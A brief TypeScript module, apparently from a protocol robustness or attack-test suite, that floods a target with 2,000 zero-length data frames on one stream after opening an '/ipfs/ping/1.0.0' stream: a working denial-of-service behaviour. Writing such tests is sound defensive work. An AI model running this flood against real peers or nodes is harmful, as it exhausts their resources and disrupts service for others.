/** Data frames without data on one stream. */
import type { Behaviour } from '../attack/target.js'
import { flooding, FRAME, header, opening } from '../attack/wire.js'

const EMPTY = Buffer.concat(Array.from({ length: 2_000 }, () => header(FRAME.data, 0, 1, 0)))

export const attack: Behaviour = async (target, signal) => flooding(target, signal, (n) => n === 0 ? opening(1, '/ipfs/ping/1.0.0') : EMPTY)
